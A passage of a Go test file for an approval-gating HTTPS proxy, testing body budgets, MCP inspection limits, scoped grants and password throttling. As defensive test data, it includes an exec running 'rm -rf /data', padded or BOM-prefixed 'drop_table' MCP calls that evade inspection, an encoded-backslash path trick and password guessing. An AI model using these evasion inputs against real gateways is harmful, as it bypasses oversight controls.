	}})
}

// recordingConn keeps every byte read from the connection.
type recordingConn struct {
	net.Conn
	mu  sync.Mutex
	got []byte
}

func (c *recordingConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.mu.Lock()
	c.got = append(c.got, p[:n]...)
	c.mu.Unlock()
	return n, err
}

// A whole close-delimited answer ends with TLS close_notify, so that an
// HTTP/1.0 client can tell it from one cut short (found by review: both
// ended with a bare close).
func TestHTTP10CloseDelimitedAnswerEndsWithCloseNotify(t *testing.T) {
	h := streamHarness(t)
	c, br := h.tunnel("stream.test:443")
	rec := &recordingConn{Conn: &bufConn{Conn: c, r: br}}
	roots := x509.NewCertPool()
	roots.AddCert(h.ca.Certificate())
	// TLS 1.2: record types are visible on the wire.
	tc := tls.Client(rec, &tls.Config{ServerName: "stream.test", RootCAs: roots, MaxVersion: tls.VersionTLS12})
	defer tc.Close()
	_ = tc.SetDeadline(time.Now().Add(10 * time.Second))
	io.WriteString(tc, "GET /stream HTTP/1.0\r\nHost: stream.test\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(tc), &http.Request{Method: "GET"})
	if err != nil {
		t.Fatal(err)
	}
	if body, err := io.ReadAll(resp.Body); err != nil || string(body) != "first part, second part" {
		t.Fatalf("body %q, %v", body, err)
	}
	rec.mu.Lock()
	raw := rec.got
	rec.mu.Unlock()
	var last byte
	for len(raw) >= 5 {
		n := int(raw[3])<<8 | int(raw[4])
		last = raw[0]
		raw = raw[min(len(raw), 5+n):]
	}
	if last != 21 { // alert: close_notify
		t.Errorf("the last TLS record is of type %d, want 21 (an alert: close_notify)", last)
	}
}

// An encoded backslash is refused but in AWS requests (found by review: a
// server that splits paths on backslashes routed /repos/acme%5Cshop as
// /repos/acme/shop, a DELETE the policy denied); S3 keys hold backslashes,
// and AWS splits on neither.
func TestEncodedBackslashOutsideAWS(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: allowAll, configure: func(o *Options) {
		o.Classifier = action.NewClassifier(aws.New(aws.Options{}))
	}})
	resp, body := h.do("DELETE", "https://api.github.com/repos/acme%5Cshop", "")
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "encoded backslash") {
		t.Errorf("GitHub path with %%5C: %d %s, want 400", resp.StatusCode, body)
	}
	if n := h.up.Count("", ""); n != 0 {
		t.Fatalf("upstream saw %d requests", n)
	}
	// A made-up presigned query makes any request look like AWS's: the
	// host decides (found by review).
	sig := "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20250101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20250101T000000Z&X-Amz-Expires=60&X-Amz-SignedHeaders=host&X-Amz-Signature=" + strings.Repeat("a", 64)
	if resp, body := h.do("DELETE", "https://example.test/repos/acme%5Cshop?"+sig, ""); resp.StatusCode != http.StatusBadRequest || h.up.Count("", "") != 0 {
		t.Errorf("%%5C elsewhere with a presigned query: %d %s, want 400", resp.StatusCode, body)
	}
	resp, body = h.do("GET", "https://ec2.us-east-1.amazonaws.com/logs%5Cday1?Action=DescribeInstances&Version=2016-11-15", "")
	if resp.StatusCode == http.StatusBadRequest || h.up.Count("", "") != 1 {
		t.Errorf("AWS path with %%5C: %d %s, want it forwarded", resp.StatusCode, body)
	}
}

// Bodies being read stay within MaxReadingBodies: a client that sends the
// first part of a large body and stalls holds what it took, and a body
// that would pass the budget is refused (503) before a byte goes upstream;
// the budget comes back when the stalled request ends (found by review:
// 200 connections that each sent 64 KiB and a byte pinned 1 MiB each).
func TestBodiesBeingReadHaveABudget(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: allowAll, configure: func(o *Options) { o.MaxReadingBodies = 1 << 20 }})
	const size = 700 << 10
	tc, _ := h.tlsTunnel("example.test:443", "example.test")
	fmt.Fprintf(tc, "POST /stalled HTTP/1.1\r\nHost: example.test\r\nContent-Length: %d\r\n\r\n", size)
	if _, err := tc.Write(make([]byte, 70<<10)); err != nil {
		t.Fatal(err)
	}
	// Bounded wait for the proxy to have grown the stalled body's buffer.
	deadline := time.Now().Add(10 * time.Second)
	for {
		h.srv.readingBodies.mu.Lock()
		total := h.srv.readingBodies.total
		h.srv.readingBodies.mu.Unlock()
		if total > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the stalled body took nothing of the budget")
		}
		time.Sleep(10 * time.Millisecond)
	}
	// The proxy answers 503 and hangs up before the client has sent its
	// body: the answer may be lost to the reset of a connection with
	// unread bytes, as net/http says of such answers.
	req, err := http.NewRequestWithContext(t.Context(), "POST", "https://example.test/second", strings.NewReader(strings.Repeat("b", size)))
	if err != nil {
		t.Fatal(err)
	}
	if resp, err := h.client().Do(req); err == nil {
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(string(b), "too many large request bodies") {
			t.Fatalf("a second %d-byte body beside a stalled one: %d %q, want 503", size, resp.StatusCode, b)
		}
	} else if !errors.Is(err, syscall.ECONNRESET) && !errors.Is(err, syscall.EPIPE) {
		t.Fatalf("a second %d-byte body beside a stalled one: %v, want 503 or a reset", size, err)
	}
	if n := h.up.Count("POST", "/second"); n != 0 {
		t.Errorf("the refused body reached the upstream %d times", n)
	}
	// The stalled client leaves: its bytes come back, and the next body
	// is read and forwarded.
	tc.Close()
	deadline = time.Now().Add(10 * time.Second)
	for {
		h.srv.readingBodies.mu.Lock()
		total := h.srv.readingBodies.total
		h.srv.readingBodies.mu.Unlock()
		if total == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d bytes still taken after the stalled client left", total)
		}
		time.Sleep(10 * time.Millisecond)
	}
	if resp, _ := h.do("POST", "https://example.test/third", strings.Repeat("c", size)); resp.StatusCode != http.StatusOK {
		t.Errorf("a body once the budget is free: %d, want 200", resp.StatusCode)
	}
}

// An inflated copy counts in MaxReadingBodies until its request is done
// (found by review: a 2 KiB gzip body became 1 MiB outside the budget,
// held while the decision waited on the disk).
func TestInflatedBodiesCountWhileRead(t *testing.T) {
	g := &pathGateAuditor{path: "/first", entered: make(chan struct{}), gate: make(chan struct{})}
	h := newHarness(t, harnessOptions{policy: allowAll,
		auditor:   func(l *audit.Log) Auditor { g.log = l; return g },
		configure: func(o *Options) { o.MaxReadingBodies = 1 << 20 }})
	taken := func() int64 {
		h.srv.readingBodies.mu.Lock()
		defer h.srv.readingBodies.mu.Unlock()
		return h.srv.readingBodies.total
	}
	first := make(chan int, 1)
	go func() {
		resp, _ := h.do("POST", "https://example.test/first", gzipString(strings.Repeat("a", 900<<10)), "Content-Encoding", "gzip")
		first <- resp.StatusCode
	}()
	select {
	case <-g.entered:
	case <-time.After(10 * time.Second):
		t.Fatal("the first request was not decided")
	}
	if got := taken(); got != 900<<10 {
		t.Errorf("while the first request waits on its audit record, %d bytes are taken, want its inflated %d", got, 900<<10)
	}
	resp, text := h.do("POST", "https://example.test/second", gzipString("small"), "Content-Encoding", "gzip")
	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(text, "too many large request bodies") {
		t.Errorf("a second compressed body with no room to inflate it: %d %q, want 503", resp.StatusCode, text)
	}
	close(g.gate)
	if code := <-first; code != http.StatusOK {
		t.Errorf("the first request: %d, want 200", code)
	}
	if got := taken(); got != 0 {
		t.Errorf("%d bytes still taken once both are done", got)
	}
}

// pathGateAuditor holds the decision record of the request to path until
// the test opens the gate; other records pass.
type pathGateAuditor struct {
	log     *audit.Log
	path    string
	entered chan struct{}
	gate    chan struct{}
}

func (g *pathGateAuditor) Record(ev *audit.Event) error {
	if ev.Type == "decision" && ev.Request != nil && strings.HasSuffix(ev.Request.URL, g.path) {
		close(g.entered)
		<-g.gate
	}
	return g.log.Record(ev)
}

func (g *pathGateAuditor) RecordAsync(ev *audit.Event) error    { return g.Record(ev) }
func (g *pathGateAuditor) RecordDeferred(ev *audit.Event) error { return g.Record(ev) }

// Heads past h1.LargeHeadBytes inside tunnels count in MaxReadingBodies
// until their request is answered: a client that stalls in a large head
// holds what it took, and a second large head is refused (503, audited,
// nothing upstream) while small ones still pass (found by review: each
// connection could hold a 1 MiB head outside any budget).
func TestLargeHeadsHaveABudget(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: allowAll, configure: func(o *Options) { o.MaxReadingBodies = 3 << 20 }})
	taken := func() int64 {
		h.srv.readingBodies.mu.Lock()
		defer h.srv.readingBodies.mu.Unlock()
		return h.srv.readingBodies.total
	}
	waitTaken := func(want int64) {
		t.Helper()
		deadline := time.Now().Add(10 * time.Second)
		for taken() != want {
			if time.Now().After(deadline) {
				t.Fatalf("%d bytes taken, want %d", taken(), want)
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	big := strings.Repeat("h", 100<<10)

	tc, _ := h.tlsTunnel("example.test:443", "example.test")
	fmt.Fprintf(tc, "GET /stalled HTTP/1.1\r\nHost: example.test\r\nX-Big: %s", big)
	waitTaken(largeHeadReserve)

	resp, text := h.do("GET", "https://example.test/second", "", "X-Big", big)
	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(text, "too many large request heads") {
		t.Fatalf("a second large head beside a stalled one: %d %q, want 503", resp.StatusCode, text)
	}
	if resp, _ := h.do("GET", "https://example.test/small", ""); resp.StatusCode != http.StatusOK {
		t.Errorf("a small head beside the stalled one: %d, want 200", resp.StatusCode)
	}
	if n := h.up.Count("", "/second") + h.up.Count("", "/stalled"); n != 0 {
		t.Errorf("the large heads reached the upstream %d times", n)
	}
	refused := false
	for _, r := range h.records() {
		if r.Type == "decision" && r.Decision == "deny" && slices.ContainsFunc(r.Reasons, func(s string) bool { return strings.Contains(s, "large request heads") }) {
			refused = true
		}
	}
	if !refused {
		t.Error("the refused head has no audit record")
	}

	// The stalled client leaves: what it took comes back, and a large
	// head is read, forwarded and gives back its share once answered.
	tc.Close()
	waitTaken(0)
	if resp, _ := h.do("GET", "https://example.test/third", "", "X-Big", big); resp.StatusCode != http.StatusOK {
		t.Errorf("a large head once the budget is free: %d, want 200", resp.StatusCode)
	}
	waitTaken(0)
}

// Once a request is decided and forwarded, its inflated copy, which is no
// longer counted in MaxReadingBodies, is dropped too: the exchange lives on
// while a slow client reads the answer (found by review).
func TestInflatedCopyDroppedOnceForwarded(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: allowAll})
	req, err := http.NewRequestWithContext(t.Context(), "POST", "https://example.test/inflate", strings.NewReader(gzipString(strings.Repeat("a", 64<<10))))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Encoding", "gzip")
	req.Header.Set("Content-Type", "text/plain")
	ex := &exchange{req: req, scheme: "https", host: "example.test", port: 443, session: h.sess}
	resp := h.srv.handle(t.Context(), ex)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d, want 200", resp.StatusCode)
	}
	resp.Body.Close()
	if ex.ar == nil || !ex.ar.Decoded {
		t.Fatal("the body was not inflated for the policy")
	}
	if ex.ar.Body != nil {
		t.Errorf("the inflated copy (%d bytes) outlives the decision", len(ex.ar.Body))
	}
}

// An MCP message whose JSON-RPC members all come after the inspection
// limit is decided as plain HTTP, and is then cut off before its end as
// the rest is sent: the MCP server (the Go SDK's, mounted at / and taking
// Accept: */*) never gets it whole and runs nothing (found by review: it
// ran drop_table, which the policy denies).
func TestLateMCPMessageIsCutOff(t *testing.T) {
	const denyDrop = `package countersign

deny contains {"id": "MCP-DROP", "msg": "no dropping tables"} if {
	input.action.provider == "mcp"
	startswith(input.action.tool, "drop_")
}
`
	h := newHarness(t, harnessOptions{policy: denyDrop, configure: func(o *Options) {
		o.Resolve["mcp-root.example.test:443"] = o.Resolve["example.test:443"]
		// The providers countersign runs with.
		o.Classifier = action.NewClassifier(aws.New(aws.Options{}), git.New(git.Options{}), mcp.New(mcp.Options{}),
			graphql.New(graphql.Options{}), github.New(github.Options{}), kubernetes.New(kubernetes.Options{}))
	}})
	body := `{"id":1,` + strings.Repeat(" ", 1<<20) +
		`"jsonrpc":"2.0","method":"tools/call","params":{"name":"drop_table","arguments":{"table":"users"}}}`
	resp, text := h.do("POST", "https://mcp-root.example.test/", body, "Content-Type", "application/json", "Accept", "*/*")
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(text, "JSON-RPC (MCP) message past inspect.body_limit") {
		t.Errorf("late MCP message: %d %q, want 413", resp.StatusCode, text)
	}
	if strings.Contains(text, "dropped table") || testinfra.MCPToolCalls(h.up.Requests(), "drop_table") != 0 {
		t.Error("drop_table ran")
	}
	cut := false
	for _, r := range h.records() {
		if r.Type == "forward" && r.Decision == "deny" && strings.HasPrefix(r.Detail, "cut off") {
			cut = true
		}
	}
	if !cut {
		t.Error("no audit record of the cut")
	}

	// Whatever provider a path or a signature makes claim it (found by
	// review: each went through whole).
	for _, tt := range []struct {
		name, path string
		header     []string
	}{
		{"a Kubernetes path", "/api/v1/namespaces/x/configmaps", nil},
		{"a git path", "/repo.git/git-upload-pack", nil},
		{"a SigV4 signature", "/", []string{"Authorization", "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20261126/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00"}},
	} {
		before := testinfra.MCPToolCalls(h.up.Requests(), "drop_table")
		resp, text := h.do("POST", "https://mcp-root.example.test"+tt.path, body, append([]string{"Content-Type", "application/json", "Accept", "*/*"}, tt.header...)...)
		// git's denials are git protocol errors, with a 200.
		if resp.StatusCode != http.StatusRequestEntityTooLarge && resp.StatusCode != http.StatusBadRequest && !strings.Contains(text, "cut off") {
			t.Errorf("%s: %d %q, want it refused or cut off", tt.name, resp.StatusCode, text)
		}
		if testinfra.MCPToolCalls(h.up.Requests(), "drop_table") != before || strings.Contains(text, "dropped table") {
			t.Errorf("%s: the whole message reached the server", tt.name)
		}
	}

	// A start the watch cannot read, left so by a coding countersign does
	// not inflate (found by review): refused, whatever follows.
	for _, tt := range []struct{ name, body string }{
		{"a byte order mark", "\uFEFF" + body},
		{"UTF-16", "\xff\xfe{\x00" + strings.Repeat(" \x00", 1<<19)},
	} {
		before := testinfra.MCPToolCalls(h.up.Requests(), "drop_table")
		resp, text := h.do("POST", "https://mcp-root.example.test/rpc", tt.body, "Content-Type", "application/json", "Content-Encoding", "x-foo")
		if resp.StatusCode != http.StatusRequestEntityTooLarge && resp.StatusCode != http.StatusUnsupportedMediaType {
			t.Errorf("%s under an unknown coding: %d %q, want it refused", tt.name, resp.StatusCode, text)
		}
		if testinfra.MCPToolCalls(h.up.Requests(), "drop_table") != before {
			t.Errorf("%s: the whole message reached the server", tt.name)
		}
	}
	// Only JSON POSTs are watched: an S3 upload of JSON log records whose
	// members are named method goes through whole (found by review).
	logs := `[{"method":"GET","path":"/"},{"data":"` + strings.Repeat("c", 1<<20) + `"},{"method":"POST"}]`
	if resp, text := h.do("PUT", "https://example.test/logs.json", logs, "Content-Type", "application/json"); resp.StatusCode != http.StatusOK {
		t.Errorf("a JSON PUT past the limit: %d %q, want 200", resp.StatusCode, text)
	}

	// Compressed, past the limit, with nothing but spaces read (found by
	// review): refused, as the rest cannot be watched.
	resp, text = h.do("POST", "https://mcp-root.example.test/mcp", gzipString(strings.Repeat(" ", 1<<20+10)+`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"drop_table","arguments":{"table":"users"}}}`),
		"Content-Type", "application/json", "Content-Encoding", "gzip", "Accept", "application/json, text/event-stream")
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("compressed, blank before the limit: %d %q, want 413", resp.StatusCode, text)
	}

	// Another API's large JSON with no such member goes through whole,
	// and so does NDJSON whose later lines have one: the SDKs read the
	// first value only.
	upload := `{"id":1,"name":"backup","data":"` + strings.Repeat("a", 1<<20) + `","method_name":"x","nested":{"method":"y"}}`
	if resp, text := h.do("POST", "https://example.test/upload", upload, "Content-Type", "application/json"); resp.StatusCode != http.StatusOK {
		t.Errorf("a large JSON upload: %d %q, want 200", resp.StatusCode, text)
	}
	ndjson := `{"index":{}}` + "\n" + `{"log":"` + strings.Repeat("b", 1<<20) + `"}` + "\n" + `{"method":"GET","path":"/"}` + "\n"
	if resp, text := h.do("POST", "https://example.test/_bulk", ndjson, "Content-Type", "application/x-ndjson"); resp.StatusCode != http.StatusOK {
		t.Errorf("NDJSON past the limit: %d %q, want 200", resp.StatusCode, text)
	}
}

// A held request's large head keeps what its parsed fields need, not the
// 2 MiB taken while it was read (found by review: the whole reservation
// stayed taken while the request waited for a human).
func TestLargeHeadTrimmedOnceParsed(t *testing.T) {
	const approveAll = `package countersign

approve contains "needs a human" if true
`
	h := newHarness(t, harnessOptions{policy: approveAll, configure: func(o *Options) { o.MaxReadingBodies = 3 << 20 }})
	done := make(chan int, 1)
	go func() {
		resp, _ := h.do("GET", "https://example.test/held", "", "X-Big", strings.Repeat("h", 100<<10))
		done <- resp.StatusCode
	}()
	rec := h.waitPending()
	h.srv.readingBodies.mu.Lock()
	taken := h.srv.readingBodies.total
	h.srv.readingBodies.mu.Unlock()
	if taken <= 2*(100<<10) || taken > 2*(100<<10)+4096 {
		t.Errorf("while held, %d bytes taken, want about twice the 100 KiB head", taken)
	}
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	if code := <-done; code != http.StatusOK {
		t.Errorf("the approved request: %d, want 200", code)
	}
}

// TestScopedGrantKeepsWhatNarrowsIt: a scoped grant covers the operation
// as the approver saw it, not a wider one (found by review): a Kubernetes
// deletecollection with a selector does not cover all the pods, a
// resource-less DELETE with a query does not cover another query, and a
// grant for a plain GET does not admit a WebSocket upgrade.
func TestScopedGrantKeepsWhatNarrowsIt(t *testing.T) {
	const approveAll = `package countersign

approve contains "a human decides" if input.request.method == "DELETE"

approve contains "a human decides" if input.request.path == "/live"

approve contains "a human decides" if input.action.subresource in {"exec", "proxy"}
`
	h := newHarness(t, harnessOptions{policy: approveAll, hold: 50 * time.Millisecond, configure: func(o *Options) {
		o.Classifier = action.NewClassifier(kubernetes.New(kubernetes.Options{Hosts: []string{"staging.test"}}))
	}})
	h.srv.tunnelDialer.resolve = h.up.Resolve("staging.test", "example.test")
	// Whether a request was admitted is whether it reached the upstream
	// (which answers an exec without an upgrade 400, as the API server).
	reached := func(method, target string, header ...string) bool {
		t.Helper()
		before := h.up.Count("", "")
		h.do(method, target, "", header...)
		return h.up.Count("", "") > before
	}
	scope := func(method, target string, header ...string) {
		t.Helper()
		resp, _ := h.do(method, target, "", header...)
		id := resp.Header.Get("X-Countersign-Approval")
		if id == "" {
			t.Fatalf("%s %s: %d, not held", method, target, resp.StatusCode)
		}
		if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli", ScopeFor: time.Hour}); err != nil {
			t.Fatal(err)
		}
		for range 2 { // the one-time grant, then the scope
			if !reached(method, target, header...) {
				t.Fatalf("%s %s was not admitted under its own scoped grant", method, target)
			}
		}
	}
	held := func(method, target string, header ...string) {
		t.Helper()
		if reached(method, target, header...) {
			t.Errorf("%s %s %v was admitted by another request's scoped grant", method, target, header)
		}
	}

	scope("DELETE", "https://staging.test/api/v1/namespaces/prod/pods?labelSelector=app%3Dscratch")
	held("DELETE", "https://staging.test/api/v1/namespaces/prod/pods")
	held("DELETE", "https://staging.test/api/v1/namespaces/prod/pods?labelSelector=app%3Dweb")
	held("DELETE", "https://staging.test/api/v1/namespaces/prod/pods?fieldSelector=status.phase%3DRunning")

	scope("DELETE", "https://example.test/items?id=5")
	held("DELETE", "https://example.test/items?all=true")
	held("DELETE", "https://example.test/items")

	scope("GET", "https://example.test/live")
	held("GET", "https://example.test/live", "Connection", "Upgrade", "Upgrade", "websocket", "Sec-WebSocket-Version", "13", "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")

	// An exec's command, a proxy's path past the subresource (found by the
	// second review).
	scope("POST", "https://staging.test/api/v1/namespaces/prod/pods/web/exec?command=ls")
	held("POST", "https://staging.test/api/v1/namespaces/prod/pods/web/exec?command=sh&command=-c&command=rm+-rf+/data")
	scope("GET", "https://staging.test/api/v1/namespaces/prod/services/web/proxy/healthz")
	held("GET", "https://staging.test/api/v1/namespaces/prod/services/web/proxy/admin/drop-all")
}

// TestApprovalIsBoundToTheMCPSession: a stateful MCP server runs a call in
// its session's context, so the grant an approval leaves for one session's
// call does not admit the same call in another session (found by review).
func TestApprovalIsBoundToTheMCPSession(t *testing.T) {
	const approvePosts = `package countersign

approve contains "tool calls need a human" if input.request.method == "POST"
`
	h := newHarness(t, harnessOptions{policy: approvePosts, hold: 50 * time.Millisecond})
	const call = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"drop_table","arguments":{"table":"users"}}}`
	send := func(session string) *http.Response {
		resp, _ := h.do("POST", "https://example.test/mcp", call, "Content-Type", "application/json", "Accept", "application/json, text/event-stream", "Mcp-Session-Id", session)
		return resp
	}
	id := send("session-on-staging-db").Header.Get("X-Countersign-Approval")
	if id == "" {
		t.Fatal("the call was not held")
	}
	if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	if resp := send("session-on-prod-db"); resp.StatusCode == http.StatusOK {
		t.Fatal("the approval of one MCP session's call admitted another session's")
	}
	if resp := send("session-on-staging-db"); resp.StatusCode != http.StatusOK {
		t.Fatalf("the approved session's retry: %d", resp.StatusCode)
	}
	// A scoped grant is the session's too (found by the second review).
	id = send("session-2").Header.Get("X-Countersign-Approval")
	if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli", ScopeFor: time.Hour}); err != nil {
		t.Fatal(err)
	}
	for i := range 2 { // the one-time grant, then the scope
		if resp := send("session-2"); resp.StatusCode != http.StatusOK {
			t.Fatalf("call %d in the scoped session: %d", i, resp.StatusCode)
		}
	}
	if resp := send("session-3"); resp.StatusCode == http.StatusOK {
		t.Error("a scoped grant for one MCP session's calls admitted another session's")
	}
}

// A source that keeps sending wrong passwords for a client is refused
// without its password being compared, so that guessing stops telling it
// anything; other clients and sources are not; the failures are counted on
// /metrics.
func TestPasswordGuessingIsThrottled(t *testing.T) {
	var skew atomic.Int64 // how far the proxy's clock is ahead
	h := newHarness(t, harnessOptions{configure: func(o *Options) {
		o.Now = func() time.Time { return time.Now().Add(time.Duration(skew.Load())) }
	}})
	m := NewMetrics()
	m.WatchServer(h.srv)
	connect := func(user, pass string) int {
		t.Helper()
		c, err := net.Dial("tcp", h.addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		fmt.Fprintf(c, "CONNECT api.github.com:443 HTTP/1.1\r\nHost: api.github.com:443\r\nProxy-Authorization: Basic %s\r\n\r\n", basic(user, pass))
		resp, err := http.ReadResponse(bufioReader(c), &http.Request{Method: "CONNECT"})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	for i := range authBurst {
		if got := connect(h.sess.ID, fmt.Sprintf("guess-%d", i)); got != http.StatusProxyAuthRequired {
			t.Fatalf("wrong password %d: %d, want 407", i, got)
		}
	}
	// The right password is not even checked now.
	if got := connect(h.sess.ID, h.password); got != http.StatusTooManyRequests {
		t.Fatalf("right password after %d wrong ones: %d, want 429", authBurst, got)
	}
	// Other names from the same source have budgets of their own, client
	// names or not (the answers must not tell which names exist), and the
	// source's own budget bounds them together.
	for i := range authSourceBurst - authBurst {
		if got := connect(fmt.Sprintf("nobody-%d", i), "x"); got != http.StatusProxyAuthRequired {
			t.Fatalf("unknown client name %d: %d, want 407", i, got)
		}
	}
	if got := connect("nobody-else", "x"); got != http.StatusTooManyRequests {
		t.Errorf("a name after %d tries from one source: %d, want 429", authSourceBurst, got)
	}
	// Once a refill has passed, one more try is allowed, and the right
	// password works.
	skew.Add(int64(authRefill))
	if got := connect(h.sess.ID, h.password); got != http.StatusOK {
		t.Errorf("right password after the refill: %d, want 200", got)
	}
	rec := httptest.NewRecorder()
	m.Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	for _, want := range []string{
		fmt.Sprintf("countersign_proxy_auth_failures_total %d", authSourceBurst),
		"countersign_proxy_auth_throttled_total 2",
	} {
		if !strings.Contains(rec.Body.String(), want+"\n") {
			t.Errorf("/metrics lacks %q", want)
		}
	}
}

func TestAuthGuardStaysBounded(t *testing.T) {
	g := newAuthGuard(nil)
	for i := range authMaxKeys + 1000 {
		g.take(authKeyFor(fmt.Sprintf("192.0.2.%d:5555", i%250), fmt.Sprintf("user-%d", i)))
	}
	if n := len(g.buckets); n > authMaxKeys {
		t.Errorf("%d buckets, want at most %d", n, authMaxKeys)
	}
	if k := authKeyFor("[2001:db8::1]:1", "u"); k != authKeyFor("[2001:db8::ffff]:2", "u") {
		t.Errorf("two addresses of one /64 have keys %v and %v", k, authKeyFor("[2001:db8::ffff]:2", "u"))
	}
	if k := authKeyFor("[::ffff:192.0.2.1]:1", "u"); k != authKeyFor("192.0.2.1:2", "u") {
		t.Errorf("an IPv4-mapped address has key %v, want its IPv4 one", k)
	}
}

// Tries are reserved before the password is compared, so that concurrent
// ones cannot all pass on the last token; a success gives its back.
func TestAuthGuardReservesTries(t *testing.T) {
	g := newAuthGuard(func() time.Time { return time.Unix(1e9, 0) })
	k := authKeyFor("192.0.2.1:1", "alice")
	take := func(k authKey) bool { ok, _ := g.take(k); return ok }
	for i := range authBurst {
		if !take(k) {
			t.Fatalf("try %d refused", i)
		}
	}
	if take(k) {
		t.Fatal("a try past the burst was allowed")
	}
	g.succeeded(k, true)
	if !take(k) || take(k) {
		t.Error("a success did not give back exactly one try")
	}
}

func TestMITMPatternsAreCanonical(t *testing.T) {
	got := canonicalPatterns([]string{"*", "Example.Test.", "*.ACME.example", "bücher.example"})
	want := []string{"*", "example.test", "*.acme.example", "xn--bcher-kva.example"}
	if !slices.Equal(got, want) {
		t.Errorf("canonicalPatterns = %q, want %q", got, want)
	}
	s := &Server{opts: Options{MITM: got[1:]}}
	if !s.intercepted("example.test") || !s.intercepted("a.acme.example") || s.intercepted("other.test") {
		t.Error("canonical patterns do not match canonical hosts")
	}
}

func TestDefaultMaxConnsFollowsTheFileLimit(t *testing.T) {
	for _, tt := range []struct {
		limit uint64
		want  int
	}{{0, 16384}, {1 << 20, 16384}, {20000, 16384}, {18000, 15750}, {4096, 3072}, {1024, 64}} {
		if got := defaultMaxConns(tt.limit, nil); got != tt.want {
			t.Errorf("defaultMaxConns(%d) = %d, want %d", tt.limit, got, tt.want)
		}
	}
}

// A name that authenticated from an address is not locked out by guesses
// under other names from that address; a name that did not is (found by
// review: anyone behind the same NAT kept every client out).
func TestAuthGuardTrustsNamesThatAuthenticated(t *testing.T) {
	g := newAuthGuard(func() time.Time { return time.Unix(1e9, 0) })
	alice, bob := authKeyFor("192.0.2.1:1", "alice"), authKeyFor("192.0.2.1:2", "bob")
	take := func(k authKey) bool { ok, _ := g.take(k); return ok }
	ok, charged := g.take(alice)
	if !ok {
		t.Fatal("alice's first try refused")
	}
	g.succeeded(alice, charged)
	for i := range authSourceBurst {
		g.take(authKeyFor("192.0.2.1:3", fmt.Sprintf("guess-%d", i)))
	}
	if !take(alice) {
		t.Error("alice, who authenticated from here, was locked out by guesses under other names")
	}
	if take(bob) {
		t.Error("bob, who never authenticated, was not charged to the address's budget")
	}
	if k := authKeyFor("192.0.2.1:1", "\x00"); k == (authKey{src: alice.src, source: true}) {
		t.Error("a client name can be the address's own key")
	}
}
